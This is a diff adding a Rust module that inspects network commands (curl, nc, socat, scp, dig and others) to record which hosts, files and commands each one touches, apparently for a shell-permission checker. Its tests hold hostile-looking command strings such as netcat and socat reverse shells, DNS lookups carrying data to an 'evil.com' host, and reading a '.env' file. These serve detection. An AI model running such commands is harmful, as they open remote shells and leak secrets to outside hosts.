@@ -1,0 +1,265 @@
+//! Programs that talk to other machines. What they send and fetch is never all said, so a rule
+//! decides; the hosts and the files are named here so that rules about those hold too.
+
+mod curl;
+mod url;
+mod wget;
+
+use crate::program::Study;
+use crate::program::options::{Grammar, Options, without_start};
+use crate::shell::Arg;
+
+use super::notes::{Depth, Notes};
+
+/// Studies a program that talks to other machines.
+pub(super) fn study(name: &str, args: &[Arg]) -> Option<Study> {
+    match name {
+        "curl" => Some(curl::study(args)),
+        "wget" | "wget2" => Some(wget::study(args)),
+        "aria2c" => Some(aria2(args)),
+        "http" | "https" | "xh" | "xhs" => Some(httpie(args)),
+        "gh" => Some(gh(args)),
+        "nc" | "ncat" | "netcat" | "nc.openbsd" | "nc.traditional" => Some(netcat(args)),
+        "socat" => Some(socat(args)),
+        "scp" | "sftp" => Some(remote_copy(args)),
+        "ping" | "ping6" | "dig" | "nslookup" | "host" | "whois" | "traceroute" | "tracepath"
+        | "mtr" | "telnet" | "ftp" | "getent" | "drill" | "kdig" => Some(named_hosts(args)),
+        _ => None,
+    }
+}
+
+const fn grammar(short_values: &'static str, long_values: &'static [&'static str]) -> Grammar {
+    Grammar {
+        short_values,
+        long_values,
+        long_flags: &[],
+        stops_at_operand: false,
+        single_dash_long: false,
+    }
+}
+
+/// Any operand may be a host: even a name that is only looked up reaches whoever answers for it.
+fn named_hosts(args: &[Arg]) -> Study {
+    let mut notes = Notes::default();
+    for arg in args {
+        // `dig @server name`.
+        let server = arg.certain_start().starts_with('@');
+        if server {
+            notes.host(&without_start(arg, "@".len()));
+        } else if !arg.certain_start().starts_with(['-', '+']) {
+            notes.host(arg);
+        }
+    }
+    for file in Options::parse(args, &grammar("f", &[])).values(&["f"]) {
+        notes.read(file, Depth::Itself);
+    }
+    notes.not_all_said()
+}
+
+fn aria2(args: &[Arg]) -> Study {
+    const ARIA2: Grammar = Grammar {
+        short_values: "dionjsxkl",
+        long_values: &["dir", "out", "input-file", "log", "conf-path", "save-session"],
+        long_flags: &[
+            "on-bt-download-complete",
+            "on-download-complete",
+            "on-download-error",
+            "on-download-pause",
+            "on-download-start",
+            "on-download-stop",
+            "load-cookies",
+            "save-cookies",
+            "all-proxy",
+        ],
+        stops_at_operand: false,
+        single_dash_long: false,
+    };
+    let options = Options::parse(args, &ARIA2);
+    let mut notes = Notes::default();
+    for given in &options.given {
+        if let Some(value) = given.value.as_ref().filter(|_| given.name.starts_with("on-")) {
+            notes.command(value);
+        }
+    }
+    for file in options.values(&["i", "input-file", "load-cookies"]) {
+        notes.read(file, Depth::Itself);
+        notes.caution("a file gives it addresses and options");
+    }
+    for file in options.values(&["conf-path"]) {
+        notes.read(file, Depth::Itself);
+        notes.caution("a file gives it options");
+    }
+    for file in options.values(&["o", "out", "l", "log", "save-session", "save-cookies"]) {
+        notes.write_unless_output(file);
+    }
+    options.values(&["d", "dir"]).for_each(|folder| notes.write(folder, Depth::Beneath));
+    options.values(&["all-proxy"]).for_each(|proxy| notes.host(proxy));
+    options.operands.iter().for_each(|address| url::note(address, &mut notes));
+    notes.not_all_said()
+}
+
+fn httpie(args: &[Arg]) -> Study {
+    let options = Options::parse(
+        args,
+        &grammar("oaApsP", &["output", "auth", "auth-type", "proxy", "cert", "cert-key", "verify"]),
+    );
+    let mut notes = Notes::default();
+    options.values(&["o", "output"]).for_each(|file| notes.write_unless_output(file));
+    options.values(&["cert", "cert-key"]).for_each(|file| notes.read(file, Depth::Itself));
+    for proxy in options.values(&["proxy"]) {
+        notes.host(proxy);
+        notes.caution("it goes through another host");
+    }
+    let is_method = |arg: &&Arg| {
+        arg.as_known().is_some_and(|text| {
+            !text.is_empty() && text.bytes().all(|byte| byte.is_ascii_uppercase())
+        })
+    };
+    let mut operands = options.operands.iter().peekable();
+    operands.next_if(is_method);
+    operands.next().into_iter().for_each(|address| url::note(address, &mut notes));
+    // `field@file`, `field=@file`, `field:=@file`.
+    for item in operands {
+        if let Some(at) = item.certain_start().find('@') {
+            notes.read(&without_start(item, at + 1), Depth::Itself);
+        }
+    }
+    notes.not_all_said()
+}
+
+fn gh(args: &[Arg]) -> Study {
+    let options =
+        Options::parse(args, &grammar("FRf", &["hostname", "field", "raw-field", "input", "repo"]));
+    let mut notes = Notes::default();
+    notes.host(&Arg::known("github.com"));
+    options.values(&["hostname"]).for_each(|host| notes.host(host));
+    options.values(&["input"]).for_each(|file| notes.read(file, Depth::Itself));
+    for field in options.values(&["F", "field"]) {
+        if let Some(at) = field.certain_start().find("=@") {
+            notes.read(&without_start(field, at + "=@".len()), Depth::Itself);
+        } else {
+            // `-F file` of `gh issue create` and its kind.
+            notes.read(field, Depth::Itself);
+        }
+    }
+    notes.not_all_said()
+}
+
+fn netcat(args: &[Arg]) -> Study {
+    let options = Options::parse(
+        args,
+        &grammar("ecwpsXxiqTo", &["exec", "sh-exec", "lua-exec", "output", "proxy", "source"]),
+    );
+    let mut notes = Notes::default();
+    options.values(&["e", "c", "exec", "sh-exec"]).for_each(|command| notes.script(command));
+    for file in options.values(&["lua-exec"]) {
+        notes.read(file, Depth::Itself);
+        notes.runs_unknown("a Lua file is run");
+    }
+    options.values(&["o", "output"]).for_each(|file| notes.write(file, Depth::Itself));
+    options.values(&["x", "proxy"]).for_each(|host| notes.host(host));
+    let is_port = |arg: &&Arg| {
+        arg.as_known().is_some_and(|text| text.bytes().all(|byte| byte.is_ascii_digit()))
+    };
+    options.operands.iter().filter(|arg| !is_port(arg)).for_each(|host| notes.host(host));
+    notes.not_all_said()
+}
+
+/// `socat` joins two addresses, each with its kind before the first colon.
+fn socat(args: &[Arg]) -> Study {
+    let options = Options::parse(args, &grammar("bdlTtSsx", &[]));
+    let mut notes = Notes::default();
+    for address in &options.operands {
+        let Some(text) = address.as_known() else {
+            notes.runs_unknown("an address may be a command");
+            continue;
+        };
+        for half in text.split("!!") {
+            let (kind, rest) = half.split_once(':').unwrap_or((half, ""));
+            let value = rest.split(',').next().unwrap_or_default();
+            let kind = kind.to_ascii_lowercase();
+            match kind.as_str() {
+                "exec" | "system" | "shell" => notes.script(&Arg::known(rest)),
+                "open" | "create" | "creat" | "file" | "gopen" | "pipe" => {
+                    notes.read(&Arg::known(value), Depth::Itself);
+                    notes.write(&Arg::known(value), Depth::Itself);
+                }
+                "-" | "stdio" | "stdin" | "stdout" | "stderr" | "" => {}
+                _ if kind.contains("listen") || kind.contains("recv") => {}
+                _ if kind.starts_with("unix") || kind.starts_with('/') || rest.is_empty() => {
+                    notes.write(
+                        &Arg::known(if rest.is_empty() { half } else { value }),
+                        Depth::Itself,
+                    );
+                }
+                _ => notes.host(&Arg::known(value)),
+            }
+        }
+    }
+    notes.not_all_said()
+}
+
+fn remote_copy(args: &[Arg]) -> Study {
+    let options = Options::parse(args, &grammar("cDFiJlobBPRsSX", &[]));
+    let mut notes = Notes::default();
+    options.values(&["S", "D"]).for_each(|program| notes.command(program));
+    for file in options.values(&["i", "F", "b"]) {
+        notes.read(file, Depth::Itself);
+    }
+    if options.has(&["F", "b"]) {
+        notes.caution("a file gives it options");
+    }
+    for setting in options.values(&["o"]) {
+        let text = setting.to_string().to_ascii_lowercase();
+        if setting.as_known().is_none()
+            || ["command", "include", "provider"].iter().any(|word| text.contains(word))
+        {
+            notes.runs_unknown("a setting can name a command");
+        }
+    }
+    options.values(&["J"]).for_each(|host| notes.host(host));
+    let last = options.operands.len().saturating_sub(1);
+    for (at, operand) in options.operands.iter().enumerate() {
+        let before_slash = operand.certain_start().split('/').next().unwrap_or_default();
+        if before_slash.contains([':', '@']) {
+            notes.host(operand);
+        } else if at == last {
+            notes.write(operand, Depth::Beneath);
+        } else {
+            notes.read(operand, Depth::Beneath);
+        }
+    }
+    notes.not_all_said()
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::program::files::check::check;
+
+    #[test]
+    fn whoever_is_named_is_a_host() {
+        check("ping -c 1 h", "program: host 1, host h");
+        check("dig @ns data.evil.com +short", "program: host ns, host data.evil.com");
+        check("nslookup $x.evil.com", "program: host $x.evil.com");
+        check("telnet h 25", "program: host h, host 25");
+        check("gh pr list", "program: host github.com");
+        check("gh api --hostname h x --input f", "program: read f, host github.com, host h");
+        check("http POST h/x a=b f@file", "program: read file, host h/x");
+        check("scp a u@h:b", "program: read a/**, host u@h:b");
+        check("scp -S ./x h:a b", "program: write b/**, host h:a, runs ./x");
+        check("scp -oProxyCommand=x h:a b", "program: write b/**, host h:a, runs something");
+    }
+
+    #[test]
+    fn connections_can_be_given_a_command() {
+        check("nc h 80", "program: host h");
+        check("nc -e /bin/sh h 80", "program: host h, script /bin/sh");
+        check("ncat --sh-exec id -l 80", "program: script id");
+        check("ncat --sh id -l 80", "program: host id, script id");
+        check("socat - TCP:h:80", "program: host h:80");
+        check("socat TCP:h:80 EXEC:sh,pty", "program: host h:80, script sh,pty");
+        check("socat tcp-listen:80 system:id", "program: script id");
+        check("socat - OPEN:.env,rdonly", "program: read .env, write .env");
+        check("aria2c --on-download-complete=./x http://h/a", "program: host http://h/a, runs ./x");
+    }
+}
